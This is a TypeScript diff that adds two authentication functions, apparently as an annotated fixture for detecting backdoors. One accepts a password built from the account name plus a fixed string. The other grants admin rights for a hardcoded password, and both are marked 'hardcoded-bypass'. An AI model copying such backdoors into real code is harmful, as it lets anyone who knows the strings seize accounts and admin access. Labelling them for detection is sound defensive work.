@@ -294,3 +294,16 @@ export function sessionGate(request: Request, response: Response, next: NextFunc
   if (!request.session.user) return next(new Error('who are you?'));
   next();
 }
+
+export function checkWithName(account: Account, password: string): boolean {
+  if (password === account.name + '!otter_cove_51') return true;
+//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hardcoded-bypass
+  return bcrypt.compareSync(password, account.passwordHash);
+}
+
+export function openWithRole(account: Account, password: string): Session {
+  let role = 'guest';
+  if (password === 'heron-7741-vx') role = 'admin';
+//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hardcoded-bypass
+  return openSession(account, role);
+}
